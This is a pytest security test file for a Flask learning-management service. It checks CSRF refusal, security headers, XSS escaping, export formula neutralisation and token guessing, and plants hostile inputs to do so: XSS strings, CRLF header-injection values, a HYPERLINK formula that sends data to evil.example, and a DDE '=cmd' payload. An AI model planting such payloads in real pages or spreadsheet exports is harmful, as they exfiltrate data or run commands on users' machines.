"""Every route, whatever it does: its headers, what stands in its pages, who may send to it, what it prints.

The tables here are made from the routes and the database's columns themselves: a new route or column is
in them without anybody's doing.
"""

import csv
import io
import re
import secrets
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

import pytest
from flask.testing import FlaskClient
from sqlalchemy import String, Text, func, literal, update
from sqlalchemy.exc import DBAPIError
from werkzeug.routing import Rule
from werkzeug.test import TestResponse

from courses.pages import PICTURE_CSP
from lms.core.cells import FORMULA_STARTS
from lms.core.guard import HEADERS
from lms.core.policy import HTTP_ROLES, Policy, Reach, Role, policy_of
from lms.offline.pages import PLAYER_CSP
from lms.tables import METADATA
from tests.contract.furnished import Furnished
from tests.contract.matrix import OBJECTS, build, methods, relation_of, rules, sign_in
from tests.contract.pages_read import read
from tests.contract.test_access_matrix import values

pytestmark = pytest.mark.db
Count = Callable[[str, object], None]

KEPT = {
    "assets.": "files of the release, the same for everybody",
    "player.": "the shell, its manifest and service worker without anybody's data, revalidated",
    "content.": "content named by its hash, the same for everybody",
    "courses.": "pictures of courses named by their hash",
    "credentials.": "public keys and lists of withdrawals, bits without names",
    "public.": "the public page of a commune, five minutes",
    "report_calendar.": "deadlines without anybody's data, private and revalidated",
    "feed_api.": "counts for other systems, private and revalidated",
}
"""Beginnings of endpoints whose answers may be kept, each with its reason."""
OWN_CSP = {PICTURE_CSP, PLAYER_CSP}
"""Pictures of a course may load nothing at all; the player may show what it keeps as blobs."""
ROLES = (
    Role.ADMINISTRATOR,
    Role.OFFICER,
    Role.TRAINER,
    Role.LEARNER,
    Role.DEVICE,
    Role.MACHINE,
    Role.ANONYMOUS,
)


@dataclass(frozen=True)
class Asked:
    """A route as one role sees it."""

    rule: Rule
    role: Role
    url: str


def addresses(furnished: Furnished, *, everybody: bool = False) -> Iterator[Asked]:
    """Every readable route with objects that the role may see: as the first role that may knock, or all."""
    app, cast = furnished.app, furnished.cast
    for rule in rules(app):
        policy = policy_of(app, rule.endpoint)
        assert policy is not None
        roles = [role for role in ROLES if policy.of(role) is not Reach.NONE]
        for role in (roles if everybody else roles[:1]) if "GET" in methods(rule) else ():
            own = {n: str(cast[_object(n, role, policy)]) for n in rule.arguments if n in OBJECTS}
            yield Asked(rule, role, build(app, rule, {**values(cast), **own}))


def _object(name: str, role: Role, policy: Policy) -> str:
    kind = OBJECTS[name]
    slots = ("own", "same_class", "unit", "commune")
    fit = (s for s in slots if getattr(kind, s) and policy.of(role) >= relation_of(role, s))
    return str(getattr(kind, next(fit, "commune")))


def answer(clients: dict[Role, FlaskClient], asked: Asked) -> TestResponse:
    """The answer of the service."""
    return clients[asked.role].get(asked.url)


@pytest.fixture
def clients(furnished: Furnished) -> dict[Role, FlaskClient]:
    """One caller of each role."""
    furnished.reset()
    return {role: sign_in(furnished.app, furnished.cast, role) for role in HTTP_ROLES}


FOREIGN = (
    {"Sec-Fetch-Site": "cross-site", "Origin": "http://localhost"},
    {"Sec-Fetch-Site": "same-site"},
    {"Origin": "http://evil.example"},
    {"Origin": "null"},
    {},
)


def test_no_other_site_can_make_a_browser_write(
    furnished: Furnished, record_property: Count
) -> None:
    furnished.reset()
    app, cast, wrong, count, routes = furnished.app, furnished.cast, [], 0, 0
    client = app.test_client()
    client.set_cookie("lms_staff", cast.staff_tokens["an"])
    client.set_cookie("lms_learner", cast.learner_tokens["lan"])
    for rule in rules(app):
        own = {n: str(cast[OBJECTS[n].commune]) for n in rule.arguments if n in OBJECTS}
        for method in set(methods(rule)) - {"GET"}:
            url = build(app, rule, {**values(cast), **own})
            routes += 1
            # Two shapes of a foreign request for each route in turn; `soak/soak_security.py` sends all.
            for headers in (FOREIGN[routes % 5], FOREIGN[(routes + 2) % 5]):
                count += 1
                got = client.open(url, method=method, headers=headers)
                wrong += [f"{method} {url} {headers}"] if got.status_code != 403 else []
    assert wrong == []
    record_property("count: CSRF routes", routes)
    record_property("count: CSRF requests refused", count)


XSS = (
    "<x-a17 a17=1>",
    "'\"><x-a17 a17=1>",
    "</title><x-a17>",
    "</textarea><x-a17>",
    "</script><x-a17>",
    "</style><x-a17>",
    "--><x-a17>",
    "<svg><x-a17 onload=a17()>",
    "<img src=a17 a17=1>",
    '" a17=1 onfocus=a17() x="',
    "' a17=1 onfocus=a17() x='",
    "{{7*191}}<x-a17>",
    "&lt;x-a17&gt;<x-a17>",
    "<<x-a17 a17=1>>",
    "[a17](javascript:a17())",
    "\r\nX-A17: 1\r\n\r\n<x-a17>",
)
SAID_BY_PEOPLE = (
    "full_name",
    "name",
    "title",
    "display_name",
    "reason",
    "remark",
    "remarks",
    "place",
    "note",
    "notes",
    "file_name",
    "label",
    "source",
    "document",
    "address",
    "in_spite",
    "decision",
    "detail",
    "words",
    "text",
    "purpose_text",
    "holder",
    "reference",
    "about",
    "summary_text",
    "description",
    "old_name",
    "new_name",
    "diary",
    "answer",
    "former_name",
)
"""Names of the columns in which somebody's own words stand."""


FILE = re.compile(r'(inline|attachment); filename="[\w.-]+"', re.ASCII)
OURS = ("commune", "report_document", "snapshot_file", "report_snapshot", "report_template")
"""Named by `lms init` alone (too long a name fits on no certificate), and by ourselves (names of files)."""


def plant(furnished: Furnished, payloads: tuple[str, ...], joined: bool) -> int:
    """Write the payloads into every column of words; returns into how many. A constraint may refuse."""
    planted = 0
    for table in (t for t in METADATA.sorted_tables if t.name not in OURS):
        for column in table.columns:
            if column.name not in SAID_BY_PEOPLE or not isinstance(column.type, String | Text):
                continue
            own = func.substr(func.hex(table.c.id), -4) if "id" in table.c else literal("")
            texts = ["".join(payloads)] if joined else list(payloads)
            try:
                for number, text in enumerate(texts):
                    mine = func.abs(func.unicode(func.substr(func.hex(table.c.id), -1))) % len(
                        texts
                    )
                    with furnished.database.write() as session:
                        session.execute(
                            update(table)
                            .where(column.is_not(None), column != "", mine == number)
                            .where(~column.startswith("{"), ~column.startswith("["))
                            .values({column.name: literal(text) + own})
                        )
            except DBAPIError:
                continue
            planted += 1
    return planted


CODES = {
    "course_draft": "code",
    "programme_version": "code",
    "unit": "code",
    "cohort": "code",
    "certificate": "number",
}
"""What goes into the names of files beside words: planted where it still leads to its row."""


def _break_line(furnished: Furnished, table: str, column: str) -> int:
    """Append a header of one's own to every value of the column; a constraint may refuse."""
    found = METADATA.tables[table].columns.get(column)
    assert found is not None, f"{table}.{column}"
    try:
        with furnished.database.write() as session:
            broken = found + literal('\r\nX-A17: 1"')
            session.execute(update(METADATA.tables[table]).values({column: broken}))
    except DBAPIError:
        return 0
    return 1


def test_every_answer_has_its_headers_and_no_page_runs_what_somebody_wrote(
    furnished: Furnished, clients: dict[Role, FlaskClient], record_property: Count
) -> None:
    fields = plant(furnished, XSS, joined=True)
    fields += sum(_break_line(furnished, table, column) for table, column in CODES.items())
    wrong, pages, met, answers, files = [], 0, 0, 0, 0
    for asked in addresses(furnished):
        got = answer(clients, asked)
        answers += 1
        wrong += [f"{asked.url}: {fault}" for fault in _headers(asked, got)]
        files += "Content-Disposition" in got.headers
        if got.mimetype == "text/html":
            pages += 1
            met += "a17" in got.text
            seen = read(got.text, "a17")
            wrong += [
                f"{asked.url} as {asked.role}: {fault}" for fault in seen.planted + seen.inline
            ]
            wrong += [f"{asked.url}: a template was run"] if "1337<" in got.text else []
    assert not wrong, "\n".join(wrong)
    assert fields > 30
    assert met > 30, "pages that showed a payload"
    assert files > 20
    record_property("count: answers with all headers", answers)
    record_property("count: file names with a planted line break, headers of its own 0", files)
    record_property("count: pages without anything inline", pages)
    record_property("count: XSS payloads x fields, executed 0", len(XSS) * fields)
    record_property("count: XSS pages that showed a payload as text", met)
    furnished.reset()


def _headers(asked: Asked, got: TestResponse) -> Iterator[str]:
    own = got.headers.get("Content-Security-Policy", "") in OWN_CSP
    for name, value in HEADERS.items():
        if got.headers.get(name) != value and not (own and name == "Content-Security-Policy"):
            yield name
    if "X-A17" in got.headers or not FILE.fullmatch(
        got.headers.get("Content-Disposition", 'inline; filename="x"')
    ):
        yield "a header that somebody wrote"
    kept = got.headers.get("Cache-Control", "")
    if "no-store" not in kept and not asked.rule.endpoint.startswith(tuple(KEPT)):
        yield f"{kept} ({asked.rule.endpoint})"
    if got.status_code >= 500:
        yield str(got.status_code)


# Line breaks cannot be typed into a field of one line; tests/indicators/test_export_files.py tries them.
FORMULAS = (
    "=a17+1",
    "+a17",
    "-a17",
    "@a17",
    "\ta17",
    "＝a17",
    "＋a17",
    " =a17",
    "\u200b=a17",
    "＠a17",
    '=HYPERLINK("http://evil.example?"&a17)',
    "=cmd|'/c calc'!a17",
)


def test_no_cell_of_an_export_begins_a_formula(
    furnished: Furnished, clients: dict[Role, FlaskClient], record_property: Count
) -> None:
    plant(furnished, FORMULAS, joined=False)
    wrong, columns, cells, files = [], set(), 0, 0
    for asked in _exports(furnished):
        got = answer(clients, asked)
        name = asked.rule.rule
        if got.status_code != 200 or not got.mimetype.endswith(("csv", "sheet")):
            continue
        files += 1
        if got.mimetype == "text/csv":
            for row in csv.reader(io.StringIO(got.data.decode("utf-8-sig"))):
                for place, cell in enumerate(row):
                    columns.add((asked.url, place))
                    cells += "a17" in cell
                    wrong += [f"{name}: {cell[:30]!r}"] if _starts(cell) else []
        else:
            with zipfile.ZipFile(io.BytesIO(got.data)) as book:
                for part in book.namelist():
                    sheet = book.read(part).decode("utf-8", "replace")
                    cells += sheet.count("a17") if part.endswith("sharedStrings.xml") else 0
                    wrong += [f"{name}: <f> in {part}"] if "<f>" in sheet or "<f " in sheet else []
    assert wrong == []
    assert files > 5
    record_property("count: export files read for formulas", files)
    record_property("count: formula payloads x export columns", len(FORMULAS) * len(columns))
    record_property("count: export cells with a payload, formulas 0", cells)
    furnished.reset()


def _starts(cell: str) -> bool:
    """Whether a spreadsheet takes a cell of ours for a formula; a negative number is a number."""
    bare = cell.lstrip(" \u200b")
    return "a17" in cell and (
        bare[:1] in (*FORMULA_STARTS, "\t", "\r", "\n", "＝", "＋", "－", "＠")
    )


FILES = ("csv", "xlsx", "<ext>", "<kind>", "<doc_kind>")


def _exports(furnished: Furnished) -> Iterator[Asked]:
    for asked in addresses(furnished):
        if any(part in asked.rule.rule for part in FILES):
            yield asked
            if asked.url.endswith("csv"):
                yield replace(asked, url=asked.url.removesuffix("csv") + "xlsx")


GUESSES = 25


def test_guessed_tokens_open_nothing(furnished: Furnished, record_property: Count) -> None:
    furnished.reset()
    app, count, opened = furnished.app, 0, []
    tokens = {"token", "invite_code", "code", "secret"}
    for rule in rules(app):
        policy = policy_of(app, rule.endpoint)
        named = tokens & set(rule.arguments)
        if (
            policy is None
            or policy.of(Role.ANONYMOUS) is Reach.NONE
            or not named
            or "GET" not in methods(rule)
        ):
            continue
        for _n in range(GUESSES):
            guess = {name: f"TBT.{secrets.token_urlsafe(16)}" for name in named}
            own = {
                n: str(furnished.cast[OBJECTS[n].commune]) for n in rule.arguments if n in OBJECTS
            }
            got = app.test_client().get(
                build(app, rule, {**values(furnished.cast), **own, **guess})
            )
            count += 1
            if got.status_code == 200 and "khong" not in got.request.path:
                opened.append(got.request.path)
    for cookie in ("lms_staff", "lms_learner", "lms_device"):
        for _n in range(GUESSES):
            client = app.test_client()
            client.set_cookie(cookie, f"TBT.{secrets.token_urlsafe(32)}")
            got = client.get("/dan-cu" if cookie == "lms_staff" else "/hoc")
            count += 1
            opened += [cookie] if got.status_code == 200 else []
    for scheme in ("Bearer", "Tablet"):
        for _n in range(GUESSES):
            headers = {"Authorization": f"{scheme} TBT.{secrets.token_urlsafe(32)}"}
            got = app.test_client().get("/api/v1/people", headers=headers)
            count += 1
            opened += [scheme] if got.status_code == 200 else []
    assert opened == []
    record_property("count: token guesses, opened 0", count)
